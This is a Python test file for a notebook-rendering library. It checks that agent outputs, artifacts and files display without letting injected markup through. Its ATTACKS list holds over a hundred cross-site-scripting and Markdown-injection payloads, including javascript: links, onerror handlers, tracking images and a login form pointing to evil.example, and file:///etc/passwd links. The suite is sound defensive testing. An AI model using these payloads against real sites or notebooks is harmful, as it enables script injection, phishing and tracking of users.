"""What a notebook shows of records, and that nothing a platform or an agent says becomes markup of its own."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from datetime import datetime, timezone
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import mistune
import pytest
from markdown_it import MarkdownIt
from nomkit import Agent, AgentStatus, Artifact, ArtifactKind, Column, File, Nomic, Page, RunResult
from nomkit._notebook import Rich
from nomkit._record import ListOf, TupleOf

INLINE = {"a", "br", "code", "em", "span", "strong"}
BLOCK = {"blockquote", "div", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "ul"}
TABLE = {"table", "tbody", "td", "th", "thead", "tr"}
VOID = {"br", "hr"}
ATTRIBUTES = {
    "div": {"class": r"nomkit mathjax_ignore tex2jax_ignore"},
    "a": {"href": r"(https?://|mailto:).*", "rel": r"noopener noreferrer", "target": r"_blank", "title": ""},
    "ol": {"start": r"\d{1,10}"},
    "td": {"style": r"text-align:(left|right)"},
    "th": {"style": r"text-align:(left|right)"},
}
GOOD = "https://example.com/report?a=1&b=2"


class Seen(HTMLParser):
    """Reads HTML as a browser would, and collects what must not be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.wrong: list[str] = []
        self.links: list[str] = []
        self.tags: set[str] = set()
        self.strings = [""]
        self.feed(html)
        self.close()
        if self.open:
            self.wrong.append(f"open at the end: {self.open}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag not in INLINE | BLOCK | TABLE:
            self.wrong.append(tag)
        for name, value in attrs:
            allowed = ATTRIBUTES.get(tag, {}).get(name)
            if allowed is None or not re.fullmatch(allowed, value or ""):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "href":
                self.links.append(value or "")
        if tag not in VOID:
            self.open.append(tag)
        if tag != "br":  # The only one that formula renderers read on across.
            self.strings.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID or not self.open or self.open.pop() != tag:
            self.wrong.append(f"/{tag}")
        self.strings.append("")

    def handle_data(self, data: str) -> None:
        if not {"code", "pre"} & set(self.open):
            self.strings[-1] += data

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")

    def formulas(self) -> list[str]:
        """Stretches of text in which a formula could begin."""
        return [string for string in self.strings if string not in ("$", "\\") and re.search(r"[$\\]", string)]


def check(html: str) -> Seen:
    seen = Seen(html)
    assert seen.wrong == []
    assert seen.formulas() == []
    for link in seen.links:
        assert urlsplit(link).scheme in ("http", "https", "mailto"), link
        assert not re.search(r"[\x00-\x20\x7f-\x9f\\\"'<>]", link), link
    return seen


def renderers() -> dict[str, Callable[[str], Any]]:
    """Readers of Markdown as frontends have them, with raw HTML and every extension allowed."""
    plugins = ["strikethrough", "footnotes", "table", "url", "task_lists", "def_list", "abbr", "math", "superscript"]
    return {
        "commonmark": MarkdownIt("commonmark").render,
        "gfm": MarkdownIt("gfm-like", {"html": True, "typographer": True}).enable(["replacements"]).render,
        "mistune": mistune.create_markdown(escape=False, plugins=plugins),
    }


ATTACKS = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/p.gif">',
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<form action=https://evil.example><input name=k><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<div onmouseover='alert(1)' style='position:fixed;inset:0'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "</div></td></table><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script>",
    "&amp;lt;script&amp;gt;",
    "<a href='javascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "line\n<script>\nalert(1)\n</script>\nline",
    "    <script>alert(1)</script>",
    # images
    "![x](https://evil.example/p.gif)",
    "![x](http://evil.example/p.gif 'title')",
    "![x](<https://evil.example/p.gif>)",
    "![x][ref]\n\n[ref]: https://evil.example/p.gif",
    "![ref]\n\n[ref]: https://evil.example/p.gif",
    "![x](data:image/png;base64,AAAA)",
    "![a ![b](https://evil.example/1.gif) c](https://evil.example/2.gif)",
    "[![x](https://evil.example/p.gif)](https://example.com)",
    "!\\[x](https://evil.example/p.gif)",
    "\\![x](https://evil.example/p.gif)",
    "wow![x](https://evil.example/p.gif)",
    "!&#91;x](https://evil.example/p.gif)",
    "&#33;[x](https://evil.example/p.gif)",
    "**!**[x](https://evil.example/p.gif)",
    "!`a`[x](https://evil.example/p.gif)",
    "![x](https://evil.example/p.gif){onerror=alert(1)}",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;&#118;&#97;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](https:javascript:alert(1))",
    "[x](http://a@evil.example)",
    '[x](https://example.com" onclick="alert(1))',
    "[x](https://example.com' onclick='alert(1))",
    "[x](https://example.com/`)",
    "[x](https://example.com/$a$)",
    '[x](https://example.com "a" onclick=alert(1) ")',
    "[x][j]\n\n[j]: javascript:alert(1)",
    "[j]\n\n[j]: <javascript:alert(1)> 'x'",
    "[a](https://example.com)[b][c]: data:x",
    "[a [b](javascript:alert(1)) c](https://example.com)",
    "[a [b](https://example.com/1) c](https://example.com/2)",
    "[a](https://example.com/(x)(y)",
    "[a](https://example.com/x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    '<https://example.com/" onclick=alert(1)>',
    "<x@evil.example onclick=alert(1)>",
    '<mailto:a@example.com?body="><script>alert(1)</script>>',
    "[x](mailto:a@example.com\njavascript:x)",
    "https://example.com/<script>alert(1)</script>",
    'https://example.com/"onmouseover="alert(1)',
    "www.example.com/javascript:alert(1)",
    "[*a](javascript:alert(1))*",
    "**[x](javascript:alert(1)**)",
    # formulas
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\require{html}\\href{javascript:alert(1)}{x}$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\\\(\\\\href{javascript:alert(1)}{x}\\\\)",
    "\\[\\unicode{x}\\]",
    "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
    "$`\\href{javascript:alert(1)}{x}`$",
    "a $ b \\$ c $$ d \\\\$ e",
    "&#36;\\style{color:red}{x}&#36;",
    "&dollar;x&dollar; &bsol;(x&bsol;)",
    "| $a | b$ |\n|---|---|\n| \\( | \\) |",
    "*$*x*$*",
    # tables, lists, headings, quotes
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "| <img src=x onerror=alert(1)> |\n|---|",
    "| `a | b` | ![x](https://evil.example/p.gif) |\n|---|---|",
    "| a |\n|:-:|\n| `<b>|<script>` |",
    "- <script>alert(1)</script>\n  - [x](javascript:alert(1))\n\n    ```\n    </code></pre><script>\n    ```",
    "> <script>alert(1)</script>\n> > ![x](https://evil.example/p.gif)",
    "# <script>alert(1)</script>\n## [x](javascript:alert(1)) ##",
    "Title <img src=x onerror=alert(1)>\n===",
    "1. a\n2. <b onclick=alert(1)>b</b>\n999999999. c",
    # code
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```html" onclick="alert(1)\n<script>\n```',
    "~~~ javascript:alert(1)\n```\n<script>\n~~~",
    "`</code><script>alert(1)</script>`",
    "`` a`b ``` <script> ``",
    "```\n``\x00`\n<script>alert(1)</script>\n```",
    "`a\x00``<script>`",
    "```\nnever closed <script>alert(1)</script>",
    # disguise
    "\u202e)1(trela:tpircsavaj\u202c",
    "\x00<\x00script>\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "java\u200bscript\ufeff:alert(1) \ud800 \U0001f600",
    "1\\. a\n\n1&#46; b\n\n- - - -\n\n***\n\na\n---",
    "[^1]: javascript:alert(1)\n\nx[^1]\n\n*[HTML]: <script>\n\nHTML",
    "Term\n: <script>alert(1)</script>\n\n:::note\n::: {.x onclick=1}",
    "{html}`<script>alert(1)</script>` {{ 7*7 }} {% raw %}",
    "---\ntitle: <script>\n---\n\n%%javascript\nalert(1)",
]


def result(text: str, *artifacts: Artifact) -> RunResult:
    agent = Agent(text, AgentStatus(text), text, text, (), (), None, None)
    return RunResult(agent, 1, text, (), artifacts)


def everywhere(text: str) -> list[Rich]:
    """Records that hold the text wherever text can be."""
    report = Artifact(text, text, ArtifactKind.MARKDOWN, text, (), (), None)
    other = Artifact(text, text, ArtifactKind(text), text, (), (), None)
    rows = ({text: text, "n": {text: [text]}}, {text: None})
    table = Artifact(text, None, ArtifactKind.TABLE, None, (Column(text, text), Column("n", None)), rows, None)
    broken = Artifact(text, text, None, None, (), (), text)
    file = File(text, text, text, 1, text, text, text, datetime.now(timezone.utc), True, {text: text})
    hits = ListOf([File(text, text, None, None, None, None, None, None, False)])
    return [result(text, report, table, broken), report, other, table, broken, file, Page((file, file), 2), hits]


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_markup_but_ours_comes_out(attack: str) -> None:
    for record in everywhere(attack):
        check(record._repr_html_())
        written = record._repr_markdown_()
        for name, render in renderers().items():
            seen = Seen(render(written))
            # Links that a frontend finds in plain words lead to the web or to mail as well.
            allowed = [wrong for wrong in seen.wrong if wrong != "a href=" and not wrong.startswith("a title=")]
            assert allowed == [], (name, written)
            assert seen.formulas() == [], (name, written)
            assert "img" not in seen.tags


def test_there_are_enough_attacks() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) >= 60


PIECES = [
    "[",
    "![",
    "[a](",
    "[[]",
    "[a](https://a.b/",
    "<h",
    "<https://a",
    "https://",
    "`",
    "`a``",
    "*",
    "**a",
    "***a",
    "_a",
    "\\",
    "&a",
    "|",
    ">",
    "-",
    "1.",
    "#",
    "$",
    "(",
    "[a]:",
    "# a ",
]
ENDS = ["", " ", "\n"]


@pytest.mark.parametrize(
    "piece", [f"{piece}{end}" for piece in PIECES for end in ENDS] + [*ENDS[1:], "|\n|-\n", "- a\n  "]
)
def test_hostile_text_costs_time_in_proportion(piece: str) -> None:
    started = time.process_time()
    artifact = Artifact("a", "a", ArtifactKind.MARKDOWN, (piece * 100_000)[:100_000], (), (), None)
    check(artifact._repr_html_())
    artifact._repr_markdown_()
    assert time.process_time() - started < 3


def test_what_agents_write_is_shown_as_they_mean_it() -> None:
    text = """# Findings

The **fire door** on *level 2* is \\*loose\\* [report.pdf, p. 3], see [the code](https://example.com/a?b=1&c=2).

- one `x < y`
- two
  1. inner
  2. inner too

> quoted

| no | what | cost |
|---:|:-----|-----:|
| 1 | door | $20 |

```python
print("<b>")
```
"""
    html = Artifact("a", "a", ArtifactKind.MARKDOWN, text, (), (), None)._repr_html_()
    for part in [
        "<h3>Findings</h3>",
        "<strong>fire door</strong> on <em>level 2</em> is *loose* [report.pdf, p. 3]",
        '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">the code</a>',
        '<ul><li>one <code>x &lt; y</code></li><li>two<ol start="1"><li>inner</li><li>inner too</li></ol></li></ul>',
        "<blockquote><p>quoted</p></blockquote>",
        '<th style="text-align:right">no</th><th style="text-align:left">what</th>',
        '<td style="text-align:right"><span>$</span>20</td>',
        "<pre><code>print(&quot;&lt;b&gt;&quot;)</code></pre>",
    ]:
        assert part in html


def test_markdown_comes_back_as_the_same_markdown() -> None:
    text = "# A\n\nb **c** *d* [e](https://example.com) [report.pdf, p. 3]\n\n- f\n\n| h | i |\n|---:|---|\n| 1 | j |\n"
    artifact = Artifact("a", "a", ArtifactKind.MARKDOWN, text, (), (), None)
    rendered = MarkdownIt("gfm-like").render(artifact._repr_markdown_())
    for part in [
        "<h3>A</h3>",
        "<strong>c</strong> <em>d</em>",
        '<a href="https://example.com">e</a>',
        "[report.pdf, p. 3]",
        "<li>f</li>",
        '<th style="text-align:right">h</th>',
        '<td style="text-align:left">j</td>',
    ]:
        assert part in rendered
    assert "fire door (two of them). It is a well-known" in _shown_as_is("fire door (two of them). It is a well-known")


def _shown_as_is(text: str) -> str:
    return Artifact("a", "a", ArtifactKind.MARKDOWN, text, (), (), None)._repr_markdown_()


def test_a_table_has_headings_sides_and_a_last_line() -> None:
    columns = (Column("no", "No."), Column("what", None), Column("ok", "OK"))
    rows = tuple({"no": at, "what": None if at else f"door {at}", "ok": at % 2 == 0} for at in range(1_060))
    artifact = Artifact("a", "Doors", ArtifactKind.TABLE, None, columns, rows, None)
    html = artifact._repr_html_()
    check(html)
    assert "<strong>Doors</strong> (table, 1,060 rows)" in html
    assert '<th style="text-align:right">No.</th><th style="text-align:left">what</th>' in html
    assert '<tr><td style="text-align:right">0</td><td style="text-align:left">door 0</td>' in html
    assert (
        '<tr><td style="text-align:right">1</td><td style="text-align:left"></td><td style="text-align:left">false'
        in html
    )
    assert html.count("<tr>") == 51
    assert "… 1,010 more rows" in html
    assert "… 1,010 more rows" in MarkdownIt("gfm-like").render(artifact._repr_markdown_())


def test_long_text_is_cut() -> None:
    html = result("word " * 100_000)._repr_html_()
    assert len(html) < 110_000 and "… 400,000 more characters" in html


def test_every_record_of_a_run_is_rich(nomic: Nomic) -> None:
    file = nomic.files.upload(b"The fire door is loose.", name="<b>note.txt")
    run = nomic.agents.launch("What is wrong with the fire door?", file_ids=[file.id])
    done = run.wait(timeout=60)
    page = next(iter(nomic.agents.list().pages()))
    agents = nomic.agents.list().first(10)
    things: list[Rich] = [file, run, done, run.agent, *done.artifacts, *done.messages, page]
    things += [thing for thing in (agents, TupleOf([file])) if isinstance(thing, Rich)]
    assert len(things) == 10 and run.agent_id in things[-2]._repr_html_() and agents == list(agents)
    for thing in things:
        check(thing._repr_html_())
        assert thing._repr_markdown_().strip()
    assert ".artifacts[0]" in done._repr_html_() and run.agent_id in run._repr_html_()
    assert "&lt;b&gt;note.txt" in file._repr_html_()
    assert run.token in run._repr_html_() and run.agent_id in page._repr_html_()


def test_records_print_on_a_line() -> None:
    rows = tuple({"no": at} for at in range(20))
    artifact = Artifact("a1", "Doors", ArtifactKind.TABLE, None, (Column("no", "No."),), rows, None)
    text = repr(result("word " * 1_000, artifact))
    assert len(text) < 600 and text.startswith("RunResult(agent=Agent(id='word ")
    file = File("f1", "plan.pdf", None, 12, None, None, None, datetime(2026, 4, 5, tzinfo=timezone.utc), True, {"a": 1})
    shown = "File(id='f1', name='plan.pdf', size=12, created_at='2026-04-05T00:00:00+00:00', recovered=True)"
    assert repr(file) == shown
    assert repr(Page((file,), None)).startswith("Page(items=(File(id='f1'")
    assert repr(artifact).endswith("rows=({'no': 0}, {'no': 1}, {'no': 2}, … 17 more))")
